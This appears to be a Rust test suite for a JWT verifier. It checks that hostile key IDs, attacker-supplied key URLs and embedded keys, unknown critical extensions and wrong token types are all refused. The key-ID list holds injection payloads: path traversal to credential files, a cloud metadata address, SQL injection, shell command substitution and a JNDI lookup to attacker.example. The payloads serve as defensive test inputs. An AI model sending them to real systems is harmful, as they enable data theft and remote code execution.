//! What else a header may say: names of keys, where to find keys, extensions, types.

use serde_json::{Value, json};

use super::{ACCEPTED, check, row};
use crate::forge::{KID, attackers, encode, good, ours};

#[test]
fn a_kid_is_looked_up_and_nothing_else() {
    let kids = [
        "",
        " ",
        "OURS",
        "ours ",
        " ours",
        "ours\0",
        "\0ours",
        "ours\n",
        "ours.",
        "*",
        ".",
        "..",
        "our",
        "oursours",
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "https://attacker.example/jwks.json",
        "http://169.254.169.254/latest/",
        "//attacker.example/key",
        "' OR '1'='1",
        "ours' --",
        "ours' UNION SELECT 'x",
        "x'; DROP TABLE keys; --",
        "1 OR 1=1",
        "$(id)",
        "`id`",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/x}",
        "%00",
        "ours%00",
        "%6furs",
        "ｏurs",
        "оurs",
        "ou\u{200b}rs",
        "true",
        "0",
        "theirs",
    ];
    let mut rows: Vec<_> = kids
        .iter()
        .map(|kid| row(format!("kid {kid:?}"), good().header("kid", *kid), "token_key_unknown"))
        .collect();
    for other in [json!(null), json!(0), json!(1.5), json!(true), json!([KID]), json!({"kid": KID})] {
        rows.push(row(format!("kid {other}"), good().header("kid", other), "token_key_unknown"));
    }
    rows.push(row("no kid", good().without_header("kid"), "token_key_unknown"));
    rows.push(row("a kid of 700 bytes", good().header("kid", "k".repeat(700)), "token_key_unknown"));
    rows.push(row("a kid of 64 KiB", good().header("kid", "k".repeat(65536)), "token_too_large"));
    rows.push(row("a kid of 1 MB", good().header("kid", "k".repeat(1_000_000)), "token_too_large"));
    rows.push(row(
        "its kid by escapes",
        good().without_header("kid").header_text(r#""kid":"\u006furs""#),
        ACCEPTED,
    ));
    check(rows);
}

#[test]
fn keys_that_a_token_brings_or_points_to_are_ignored() {
    let jwk = attackers().jwk("theirs");
    let url = Value::from("https://attacker.example/keys");
    let certificate = encode(attackers().spki());
    let pointers = [
        ("jku", url.clone()),
        ("x5u", url.clone()),
        ("url", url),
        ("jwk", jwk.clone()),
        ("jwk", ours().jwk(KID)),
        ("jwks", json!({"keys": [jwk]})),
        ("x5c", json!([certificate])),
        ("x5t", Value::from(encode([0; 20]))),
        ("x5t#S256", Value::from(encode([0; 32]))),
        ("iss", Value::from("https://attacker.example/")),
        ("nonce", Value::from("AQABAAAAAAD")),
        ("cty", Value::from("JWT")),
        ("jku", json!(5)),
        ("jwk", json!("text")),
        ("x5c", json!({})),
        ("CRIT", json!(["exp"])),
    ];
    check(pointers.into_iter().flat_map(|(name, value)| {
        let pointing = good().header(name, value.clone());
        let unnamed = pointing.clone().by_attacker().without_header("kid");
        [
            row(format!("{name} {value}, signed by us"), pointing.clone(), ACCEPTED),
            row(format!("{name}, signed by them"), pointing.by_attacker(), "token_signature"),
            row(format!("{name}, signed by them, no kid"), unnamed, "token_key_unknown"),
        ]
    }));
}

#[test]
fn what_must_be_understood_and_is_not_refuses_the_token() {
    let extensions = [
        ("crit", json!(["exp"])),
        ("crit", json!(["kid"])),
        ("crit", json!(["urn:unknown"])),
        ("crit", json!([])),
        ("crit", json!("exp")),
        ("crit", json!(null)),
        ("crit", json!(false)),
        ("crit", json!({})),
        ("crit", json!([1])),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("b64", json!(null)),
        ("zip", json!("DEF")),
        ("zip", json!(null)),
        ("enc", json!("A256GCM")),
        ("enc", json!("")),
    ];
    let mut rows: Vec<_> = extensions
        .into_iter()
        .map(|(name, value)| row(format!("{name} {value}"), good().header(name, value), "token_malformed"))
        .collect();
    let unencoded = good().header("b64", false).header("crit", json!(["b64"]));
    rows.push(row("critical b64", unencoded.clone(), "token_malformed"));
    let raw = format!("{}.{}", encode(unencoded.header_bytes()), "{}");
    let signature = encode(ours().sign(raw.as_bytes()));
    rows.push(row("critical b64, really unencoded", format!("{raw}.{signature}"), "token_malformed"));
    rows.push(row("crit by escapes", good().header_text(r#""cr\u0069t":["exp"]"#), "token_malformed"));
    rows.push(row(
        "crit in no order",
        good().without_header("alg").header_text(r#""crit":[],"alg":"RS256""#),
        "token_malformed",
    ));
    check(rows);
}

#[test]
fn a_token_of_another_type_is_no_access_token() {
    let mut rows: Vec<_> = ["JWT", "jwt", "Jwt", "at+jwt", "AT+JWT", "at+JWT"]
        .iter()
        .map(|typ| row(*typ, good().header("typ", *typ), ACCEPTED))
        .collect();
    rows.push(row("no type", good().without_header("typ"), ACCEPTED));
    let others = [
        "",
        "JOSE",
        "JWS",
        "JWE",
        "secevent+jwt",
        "dpop+jwt",
        "logout+jwt",
        "id_token",
        "id+jwt",
        "oauth-authz-req+jwt",
        "kb+jwt",
        "vc+sd-jwt",
        "jwt+at",
        "application/json",
        "JWT ",
        " JWT",
        "JWT\0",
        "ＪＷＴ",
        "pop",
    ];
    rows.extend(
        others.iter().map(|typ| row(format!("{typ:?}"), good().header("typ", *typ), "token_malformed")),
    );
    for other in [json!(null), json!(1), json!(["JWT"]), json!({"typ": "JWT"}), json!(true)] {
        rows.push(row(other.to_string(), good().header("typ", other), "token_malformed"));
    }
    check(rows);
}
